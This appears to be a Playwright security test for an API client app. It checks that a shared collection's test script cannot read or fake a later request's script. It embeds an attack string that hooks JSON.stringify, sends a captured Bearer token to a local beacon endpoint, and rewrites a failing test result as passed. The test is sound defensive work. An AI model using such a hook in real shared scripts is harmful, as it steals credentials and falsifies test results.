// A shared collection's script against the next request the user sends, in the real app: request
// A's test script wraps JSON.stringify so that whatever a later script serializes (request B's
// Authorization header, B's test results) goes to a second local origin, and rewrites B's failing
// test as passed. Every script gets a fresh context, so nothing of A is left when B runs.
import { expect, test, type Page } from "@playwright/test";
import { API, AppPage } from "./pages/app";

const TAG = "script-isolation";

const ATTACK = `const send = pm.sendRequest, orig = JSON.stringify;
JSON.stringify = function () {
  const out = orig.apply(this, arguments);
  if (typeof out === "string" && out.includes("secret-B")) {
    send("${API}/isolation/beacon/stolen?t=${TAG}&v=" + encodeURIComponent(out.slice(0, 500)));
  }
  return typeof out === "string" ? out.replace(/\\["victim fails",4,/, '["victim fails",1,') : out;
};
globalThis.attackerWasHere = true;
pm.test("attacker's own test", () => {});`;

const VICTIM_PRE = `pm.request.headers.add({ key: "Authorization", value: "Bearer secret-B" });`;
const VICTIM_TEST = `pm.test("victim fails", () => pm.expect(typeof attackerWasHere).to.eql("boolean"));`;

/** What reached the second origin's beacon under this spec's tag. */
async function stolen(page: Page): Promise<unknown[]> {
  const r = await page.request.get(`${API}/isolation/log?t=${TAG}`);
  expect(r.ok()).toBe(true);
  return (await r.json()) as unknown[];
}

test("request A's script cannot read or fake request B", async ({ page }) => {
  const app = new AppPage(page);
  await app.open();
  expect(await stolen(page)).toEqual([]);

  await page.getByRole("button", { name: "New request tab" }).click();
  await app.url().fill(`${API}/cors/a`);
  await page.getByRole("tab", { name: "Tests" }).click();
  await page.getByRole("textbox", { name: "Test script" }).fill(ATTACK);
  await app.send();
  await expect(app.status()).toContainText("200");
  await app.response().getByRole("tab", { name: "Tests" }).click();
  const results = app.response().getByRole("list", { name: "Test results" });
  await expect(results).toContainText("PASS attacker's own test");

  await page.getByRole("button", { name: "New request tab" }).click();
  await app.url().fill(`${API}/cors/b`);
  await page.getByRole("tab", { name: "Pre-request" }).click();
  await page.getByRole("textbox", { name: "Pre-request script" }).fill(VICTIM_PRE);
  await page.getByRole("tab", { name: "Tests" }).click();
  await page.getByRole("textbox", { name: "Test script" }).fill(VICTIM_TEST);
  await app.send();
  await expect(app.status()).toContainText("200");
  // B really sent its header (the echo shows it), so there was a secret to steal.
  await expect(app.bodyText()).toContainText("Bearer secret-B");
  await app.response().getByRole("tab", { name: "Tests" }).click();
  await expect(results).toContainText("FAIL victim fails");
  await expect(results).toContainText("expected 'undefined' to deeply equal 'boolean'");
  // Anything A's wrapper sent during B's run would have reached the beacon before B finished.
  expect(await stolen(page)).toEqual([]);
});
